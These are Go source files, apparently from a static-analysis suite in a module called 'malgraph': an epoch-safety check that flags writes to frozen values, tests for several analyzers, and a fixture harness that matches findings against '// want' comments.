			if !ok {
				continue
			}
			v, ok := identObj(c.pass.Info, id).(*types.Var)
			if !ok {
				continue
			}
			if desc := c.frozenDesc(s.Rhs[i]); desc != "" {
				c.frozen[v] = desc
			} else if s.Tok == token.ASSIGN || s.Tok == token.DEFINE {
				delete(c.frozen, v)
			}
		}
	}
	// Then the write check: any non-identifier target (field, index, deref)
	// rooted at a frozen value mutates published state.
	for _, lhs := range s.Lhs {
		lhs = ast.Unparen(lhs)
		if _, isIdent := lhs.(*ast.Ident); isIdent {
			continue // rebinding a variable, not writing through it
		}
		if desc := c.frozenDesc(lhs); desc != "" {
			action := "writes to a field of"
			if _, isIndex := lhs.(*ast.IndexExpr); isIndex {
				action = "writes to a map/slice element of"
			}
			c.report(s.Pos(), action, desc)
		}
	}
}

func (c *epochCheck) checkCall(call *ast.CallExpr) {
	if id, ok := ast.Unparen(call.Fun).(*ast.Ident); ok {
		if _, isBuiltin := identObj(c.pass.Info, id).(*types.Builtin); isBuiltin {
			switch id.Name {
			case "delete", "clear":
				if len(call.Args) >= 1 {
					if desc := c.frozenDesc(call.Args[0]); desc != "" {
						c.report(call.Pos(), id.Name+"s from a container reachable from", desc)
					}
				}
			case "append":
				// append may write into the shared backing array of a frozen
				// slice even when the result is bound elsewhere.
				if len(call.Args) >= 1 {
					if desc := c.frozenDesc(call.Args[0]); desc != "" {
						c.report(call.Pos(), "appends to a slice reachable from", desc)
					}
				}
			case "copy":
				if len(call.Args) == 2 {
					if desc := c.frozenDesc(call.Args[0]); desc != "" {
						c.report(call.Pos(), "copies into a slice reachable from", desc)
					}
				}
			}
			return
		}
	}
	sel, ok := ast.Unparen(call.Fun).(*ast.SelectorExpr)
	if !ok {
		return
	}
	if selInfo, found := c.pass.Info.Selections[sel]; !found || selInfo.Kind() != types.MethodVal {
		return
	}
	if !isMutatorName(sel.Sel.Name) {
		return
	}
	if desc := c.frozenDesc(sel.X); desc != "" {
		c.report(call.Pos(), "calls mutator "+sel.Sel.Name+" on", desc)
	}
}
