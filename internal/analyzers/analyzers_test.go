package analyzers

import (
	"strings"
	"testing"
)

func fixtureLoader(t *testing.T) *Loader {
	t.Helper()
	l, err := NewLoader(".")
	if err != nil {
		t.Fatalf("NewLoader: %v", err)
	}
	return l
}

func TestMaprangeFixture(t *testing.T)  { RunFixture(t, fixtureLoader(t), Maprange, "maprange") }
func TestNondetermFixture(t *testing.T) { RunFixture(t, fixtureLoader(t), Nondeterm, "nondeterm") }
func TestEpochsafeFixture(t *testing.T) { RunFixture(t, fixtureLoader(t), Epochsafe, "epochsafe") }
func TestLockguardFixture(t *testing.T) { RunFixture(t, fixtureLoader(t), Lockguard, "lockguard") }

// TestWaiverSyntaxFixture pins the directive contract: a reasonless waiver
// and a stale waiver are findings in their own right.
func TestWaiverSyntaxFixture(t *testing.T) {
	RunFixture(t, fixtureLoader(t), Nondeterm, "waiver")
}

func TestInDeterministicZone(t *testing.T) {
	const mod = "malgraph"
	cases := []struct {
		path string
		want bool
	}{
		{"malgraph/internal/core", true},
		{"malgraph/internal/core/sub", true},
		{"malgraph/internal/graph", true},
		{"malgraph/internal/textsim", true},
		{"malgraph/internal/analysis", true},
		{"malgraph/internal/stats", true},
		{"malgraph/internal/corelike", false}, // prefix of a zone name is not the zone
		{"malgraph/internal/wal", false},
		{"malgraph/internal/analyzers", false},
		{"malgraph", false},
		{"othermod/internal/core", false},
	}
	for _, c := range cases {
		if got := InDeterministicZone(mod, c.path); got != c.want {
			t.Errorf("InDeterministicZone(%q, %q) = %v, want %v", mod, c.path, got, c.want)
		}
	}
}

// TestAnalyzerMetadata keeps the suite's registration coherent: unique names,
// docs present, and every analyzer wired to a waiver kind.
func TestAnalyzerMetadata(t *testing.T) {
	seen := map[string]bool{}
	for _, a := range All() {
		if a.Name == "" || a.Doc == "" || a.Waiver == "" || a.Run == nil {
			t.Errorf("analyzer %+v incompletely registered", a.Name)
		}
		if seen[a.Name] {
			t.Errorf("duplicate analyzer name %q", a.Name)
		}
		seen[a.Name] = true
	}
	if !ZoneOnly(Maprange) || !ZoneOnly(Nondeterm) {
		t.Error("maprange and nondeterm must be zone-scoped")
	}
	if ZoneOnly(Epochsafe) || ZoneOnly(Lockguard) {
		t.Error("epochsafe and lockguard must run module-wide")
	}
}

// TestLoaderLoadsModulePackage smoke-tests the source loader against a real
// module package with stdlib imports.
func TestLoaderLoadsModulePackage(t *testing.T) {
	l := fixtureLoader(t)
	pkg, err := l.Load("malgraph/internal/graph")
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	if pkg.Types == nil || len(pkg.Files) == 0 {
		t.Fatal("loaded package has no type info or files")
	}
	if !strings.HasSuffix(pkg.Dir, "internal/graph") {
		t.Errorf("unexpected package dir %q", pkg.Dir)
	}
}
