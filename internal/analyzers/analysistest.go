package analyzers

// analysistest.go — a fixture harness mirroring
// golang.org/x/tools/go/analysis/analysistest: packages under
// testdata/src/<name> annotate expected findings with `// want "regexp"`
// comments on the offending line; the harness runs one analyzer (through
// the same waiver-filtering entry point the real driver uses, so fixtures
// exercise waivers too) and diffs findings against expectations.

import (
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
)

// TB is the subset of *testing.T the harness needs (kept as an interface so
// this file stays out of the non-test build's dependency graph decisions).
type TB interface {
	Helper()
	Errorf(format string, args ...any)
	Fatalf(format string, args ...any)
}

// RunFixture loads testdata/src/<fixture> with the given loader and checks
// the analyzer's findings against the fixture's `// want` expectations.
func RunFixture(t TB, l *Loader, a *Analyzer, fixture string) {
	t.Helper()
	dir, err := filepath.Abs(filepath.Join("testdata", "src", fixture))
	if err != nil {
		t.Fatalf("fixture %s: %v", fixture, err)
	}
	pkg, err := l.LoadDir(dir, "fix/"+fixture)
	if err != nil {
		t.Fatalf("fixture %s: %v", fixture, err)
	}
	diags := CheckPackage(pkg, []*Analyzer{a})

	type key struct {
		file string
		line int
	}
	wants := make(map[key][]*wantExpectation)
	for _, f := range pkg.Files {
		for _, cg := range f.Comments {
			for _, c := range cg.List {
				pos := pkg.Fset.Position(c.Pos())
				for _, w := range parseWants(t, pos.String(), c.Text) {
					k := key{file: pos.Filename, line: pos.Line}
					wants[k] = append(wants[k], w)
				}
			}
		}
	}

	for _, d := range diags {
		k := key{file: d.Pos.Filename, line: d.Pos.Line}
		matched := false
		for _, w := range wants[k] {
			if !w.matched && w.re.MatchString(d.Message) {
				w.matched = true
				matched = true
				break
			}
		}
		if !matched {
			t.Errorf("unexpected finding:\n  %s", d)
		}
	}
	for k, ws := range wants {
		for _, w := range ws {
			if !w.matched {
				t.Errorf("%s:%d: expected finding matching %q, got none", filepath.Base(k.file), k.line, w.re)
			}
		}
	}
}

type wantExpectation struct {
	re      *regexp.Regexp
	matched bool
}

var wantRe = regexp.MustCompile(`//\s*want\s+(.*)$`)

// parseWants extracts the quoted regexps from a `// want "..." "..."`
// comment (double-quoted Go strings or backquoted raw strings).
func parseWants(t TB, at, comment string) []*wantExpectation {
	m := wantRe.FindStringSubmatch(comment)
	if m == nil {
		return nil
	}
	var out []*wantExpectation
	rest := strings.TrimSpace(m[1])
	for rest != "" {
		var lit string
		switch rest[0] {
		case '"':
			end := 1
			for end < len(rest) {
				if rest[end] == '\\' {
					end += 2
					continue
				}
				if rest[end] == '"' {
					break
				}
				end++
			}
			if end >= len(rest) {
				t.Fatalf("%s: unterminated want string: %s", at, rest)
			}
			var err error
			lit, err = strconv.Unquote(rest[:end+1])
			if err != nil {
				t.Fatalf("%s: bad want string %s: %v", at, rest[:end+1], err)
			}
			rest = strings.TrimSpace(rest[end+1:])
		case '`':
			end := strings.IndexByte(rest[1:], '`')
			if end < 0 {
				t.Fatalf("%s: unterminated want raw string: %s", at, rest)
			}
			lit = rest[1 : end+1]
			rest = strings.TrimSpace(rest[end+2:])
		default:
			t.Fatalf("%s: want expects quoted regexps, got: %s", at, rest)
		}
		re, err := regexp.Compile(lit)
		if err != nil {
			t.Fatalf("%s: bad want regexp %q: %v", at, lit, err)
		}
		out = append(out, &wantExpectation{re: re})
	}
	return out
}
